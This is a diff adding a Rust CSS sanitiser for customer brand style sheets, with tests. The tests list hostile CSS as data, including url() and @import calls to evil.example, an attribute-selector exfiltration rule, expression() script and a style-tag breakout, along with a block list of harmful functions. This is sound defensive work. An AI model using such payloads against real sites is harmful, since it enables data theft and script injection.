@@ -1,0 +1,332 @@
+//! A customer's own look. His style sheet is untrusted: it is parsed, and written anew with what is known to be harmless.
+//!
+//! What is left fetches nothing (no `@import`, no `@font-face`, no `url()` or anything else that names a resource), runs
+//! nothing (no `expression()`, `behavior`, `-moz-binding`) and covers nothing (`position` is `static` or `relative`). It is
+//! served as a file of its own, never inside a page.
+
+use std::fmt::Write as _;
+
+use cssparser::{
+    AtRuleParser, BasicParseErrorKind, CowRcStr, DeclarationParser, ParseError, Parser, ParserInput,
+    ParserState, QualifiedRuleParser, RuleBodyItemParser, RuleBodyParser, StyleSheetParser, ToCss, Token,
+};
+
+use crate::route::Route;
+
+/// Where a customer's style sheet is. The last part is the digest of what is served.
+pub(crate) const ROUTE: Route = Route::new("/brand/{sheet}");
+
+/// Bytes of a style sheet that are looked at.
+const INPUT_BYTES_MAX: usize = 256 * 1024;
+/// Bytes that are served; rules beyond are left out.
+const OUTPUT_BYTES_MAX: usize = 128 * 1024;
+/// Blocks within blocks.
+const DEPTH_MAX: usize = 16;
+
+/// `css` without what could harm. What is malformed is left out as a browser would, rule by rule; the result is the same
+/// when it is cleaned again.
+#[must_use]
+pub(crate) fn sanitise(css: &str) -> String {
+    let css = css.get(..css.floor_char_boundary(INPUT_BYTES_MAX)).unwrap_or_default();
+    let mut input = ParserInput::new(css);
+    let mut parser = Parser::new(&mut input);
+    let mut text = String::new();
+    for rule in StyleSheetParser::new(&mut parser, &mut Rules { depth: 0 }).flatten() {
+        if OUTPUT_BYTES_MAX < text.len() + rule.len() {
+            break;
+        }
+        text.push_str(&rule);
+    }
+    text
+}
+
+/// Rules of a sheet, or of an at-rule that holds rules; each becomes its text.
+struct Rules {
+    depth: usize,
+}
+
+/// Declarations of one rule.
+struct Declarations;
+
+type Refusal<'i> = ParseError<'i, ()>;
+
+impl<'i> QualifiedRuleParser<'i> for Rules {
+    type Prelude = String;
+    type QualifiedRule = String;
+    type Error = ();
+
+    fn parse_prelude<'t>(&mut self, input: &mut Parser<'i, 't>) -> Result<String, Refusal<'i>> {
+        let selectors = harmless(input, 0)?;
+        // No selector has one; a sheet that lands in a page by mistake must not leave its element.
+        if selectors.contains('<') { Err(refuse(input)) } else { Ok(selectors) }
+    }
+
+    fn parse_block<'t>(
+        &mut self,
+        selectors: String,
+        _start: &ParserState,
+        input: &mut Parser<'i, 't>,
+    ) -> Result<String, Refusal<'i>> {
+        let declarations: String = RuleBodyParser::new(input, &mut Declarations).flatten().collect();
+        if declarations.is_empty() {
+            return Ok(String::new());
+        }
+        Ok(format!("{} {{ {declarations}}}\n", selectors.trim()))
+    }
+}
+
+impl<'i> AtRuleParser<'i> for Rules {
+    type Prelude = String;
+    type AtRule = String;
+    type Error = ();
+
+    fn parse_prelude<'t>(
+        &mut self,
+        name: CowRcStr<'i>,
+        input: &mut Parser<'i, 't>,
+    ) -> Result<String, Refusal<'i>> {
+        let name = name.to_ascii_lowercase();
+        if self.depth == DEPTH_MAX || (name != "media" && name != "supports") {
+            return Err(refuse(input));
+        }
+        Ok(format!("@{name} {}", harmless(input, 0)?.trim()))
+    }
+
+    fn parse_block<'t>(
+        &mut self,
+        prelude: String,
+        _start: &ParserState,
+        input: &mut Parser<'i, 't>,
+    ) -> Result<String, Refusal<'i>> {
+        let mut inner = Self { depth: self.depth + 1 };
+        let rules: String = StyleSheetParser::new(input, &mut inner).flatten().collect();
+        if rules.is_empty() {
+            return Ok(String::new());
+        }
+        Ok(format!("{prelude} {{\n{rules}}}\n"))
+    }
+}
+
+impl<'i> DeclarationParser<'i> for Declarations {
+    type Declaration = String;
+    type Error = ();
+
+    fn parse_value<'t>(
+        &mut self,
+        name: CowRcStr<'i>,
+        input: &mut Parser<'i, 't>,
+        _start: &ParserState,
+    ) -> Result<String, Refusal<'i>> {
+        let value = harmless(input, 0)?;
+        let (name, value) = (name.to_ascii_lowercase(), value.trim());
+        if !is_harmless_property(&name, value) {
+            return Err(refuse(input));
+        }
+        let mut text = String::new();
+        // Writing to a string cannot fail.
+        let _ = cssparser::serialize_identifier(&name, &mut text);
+        let _ = write!(text, ": {value}; ");
+        Ok(text)
+    }
+}
+
+impl AtRuleParser<'_> for Declarations {
+    type Prelude = ();
+    type AtRule = String;
+    type Error = ();
+}
+
+impl QualifiedRuleParser<'_> for Declarations {
+    type Prelude = ();
+    type QualifiedRule = String;
+    type Error = ();
+}
+
+impl RuleBodyItemParser<'_, String, ()> for Declarations {
+    fn parse_declarations(&self) -> bool {
+        true
+    }
+
+    fn parse_qualified(&self) -> bool {
+        false
+    }
+}
+
+fn is_harmless_property(name: &str, value: &str) -> bool {
+    match name {
+        "behavior" | "-ms-behavior" | "-moz-binding" => false,
+        // Anything else could lie over the page and look like a part of it.
+        "position" => {
+            let value = value.trim_end_matches("!important").trim().to_ascii_lowercase();
+            value == "static" || value == "relative"
+        }
+        _ => true,
+    }
+}
+
+/// Functions that name a resource, run something, or take a value from elsewhere that a name could hide in.
+fn is_harmless_function(name: &str) -> bool {
+    const HARMFUL: [&str; 13] = [
+        "url",
+        "url-prefix",
+        "src",
+        "image",
+        "image-set",
+        "-webkit-image-set",
+        "cross-fade",
+        "-webkit-cross-fade",
+        "element",
+        "-moz-element",
+        "paint",
+        "attr",
+        "expression",
+    ];
+    !HARMFUL.iter().any(|harmful| name.eq_ignore_ascii_case(harmful))
+}
+
+/// What is left of `input`, written anew; refused as a whole if any of it is not known to be harmless.
+fn harmless<'i>(input: &mut Parser<'i, '_>, depth: usize) -> Result<String, Refusal<'i>> {
+    let mut text = String::new();
+    while let Ok(token) = input.next_including_whitespace_and_comments().cloned() {
+        let close = match &token {
+            Token::WhiteSpace(_) => {
+                text.push(' ');
+                continue;
+            }
+            // Keeps the tokens at its sides apart.
+            Token::Comment(_) => {
+                text.push_str("/**/");
+                continue;
+            }
+            Token::UnquotedUrl(_)
+            | Token::BadUrl(_)
+            | Token::BadString(_)
+            | Token::AtKeyword(_)
+            | Token::CDO
+            | Token::CDC
+            | Token::Semicolon
+            | Token::CurlyBracketBlock
+            | Token::CloseParenthesis
+            | Token::CloseSquareBracket
+            | Token::CloseCurlyBracket => return Err(refuse(input)),
+            Token::Function(name) if is_harmless_function(name) => Some(')'),
+            Token::Function(_) => return Err(refuse(input)),
+            Token::ParenthesisBlock => Some(')'),
+            Token::SquareBracketBlock => Some(']'),
+            _ => None,
+        };
+        // Writing to a string cannot fail.
+        let _ = token.to_css(&mut text);
+        let Some(close) = close else { continue };
+        if depth == DEPTH_MAX {
+            return Err(refuse(input));
+        }
+        text.push_str(&input.parse_nested_block(|input| harmless(input, depth + 1))?);
+        text.push(close);
+    }
+    Ok(text)
+}
+
+fn refuse<'i>(input: &Parser<'i, '_>) -> Refusal<'i> {
+    input.new_error(BasicParseErrorKind::QualifiedRuleInvalid)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn check(css: &str, expected: &str) {
+        let cleaned = sanitise(css);
+        let flat = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
+        assert_eq!(flat(&cleaned), expected, "{css}");
+        assert_eq!(sanitise(&cleaned), cleaned, "cleaned twice: {css}");
+    }
+
+    #[test]
+    fn what_is_harmless_stays() {
+        check(
+            ":root { --accent: #a00; --on-accent: white }",
+            ":root { --accent: #a00; --on-accent: white; }",
+        );
+        check(
+            "a:hover > b[data-x=\"1\"]{color:rgb(1 2 3 / 50%)!important}",
+            "a:hover > b[data-x=\"1\"] { color: rgb(1 2 3 / 50%)!important; }",
+        );
+        check(
+            "@media (width < 40rem) { a { margin: calc(1px + 2px) } }",
+            "@media (width < 40rem) { a { margin: calc(1px + 2px); } }",
+        );
+        check(".a::before { content: \"\\2191\" } ", ".a::before { content: \"↑\"; }");
+        check("a { position: RELATIVE }", "a { position: RELATIVE; }");
+        check("a { color: red; } </style><script>alert(1)</script> b { color: blue }", "a { color: red; }");
+    }
+
+    #[test]
+    fn what_fetches_is_left_out() {
+        for css in [
+            "@import 'https://evil.example/x.css';",
+            "@import url(https://evil.example/x.css);",
+            "@font-face { font-family: x; src: url(//evil.example/x) }",
+            "@namespace svg url(http://www.w3.org/2000/svg);",
+            "@charset 'utf-8'; @document url(https://x) { a { color: red } }",
+            "a { background: url(https://evil.example) }",
+            "a { background: URL('https://evil.example') }",
+            "a { background: u\\72l(https://evil.example) }",
+            "a { background: \\75\\72\\6c(\"//evil.example\") }",
+            "input[value^='a'] { background: url(//evil.example/a) }",
+            "a { --x: url(//evil.example); }",
+            "a { background: image-set('//evil.example' 1x) }",
+            "a { background: -webkit-image-set('//evil.example' 1x) }",
+            "a { background: linear-gradient(red, url(//evil.example)) }",
+            "a { background: src('//evil.example') }",
+            "a { list-style: url( }",
+            "a { background: url(bad\"quote) }",
+            "a { cursor: cross-fade(image('//evil.example'), red) }",
+            "@media screen { @import url(//evil.example); a { background: url(x) } }",
+            "a { & b { background: url(//evil.example) } }",
+        ] {
+            check(css, "");
+        }
+    }
+
+    #[test]
+    fn what_runs_or_covers_is_left_out() {
+        for css in [
+            "a { width: expression(alert(1)) }",
+            "a { width: exp\\72 ession(alert(1)) }",
+            "a { behavior: 'x.htc' }",
+            "a { BEHAVIOR: x }",
+            "a { -moz-binding: x }",
+            "a { position: fixed }",
+            "a { position: FIXED !important }",
+            "a { position: f\\69xed }",
+            "a { position: sticky }",
+            "a { position: absolute; inset: url(x) }",
+            "a { position: var(--p) }",
+            "<!-- a { color: url(x) } -->",
+        ] {
+            check(css, "");
+        }
+    }
+
+    #[test]
+    fn one_bad_declaration_does_not_take_the_others_away() {
+        check(
+            "a { color: red; background: url(x); margin: 0 } b { top: 0 }",
+            "a { color: red; margin: 0; } b { top: 0; }",
+        );
+        check("a { color: re/**/d; }", "a { color: re/**/d; }");
+    }
+
+    #[test]
+    fn size_and_depth_are_bounded() {
+        let deep = format!("a {{ width: {} }}", "(".repeat(60_000));
+        check(&deep, "");
+        check(&"@media x {".repeat(20_000), "");
+        let long = "a { color: red }\n".repeat(100_000);
+        assert!(sanitise(&long).len() <= OUTPUT_BYTES_MAX);
+        let accents = "é".repeat(INPUT_BYTES_MAX);
+        assert_eq!(sanitise(&accents), "");
+    }
+}
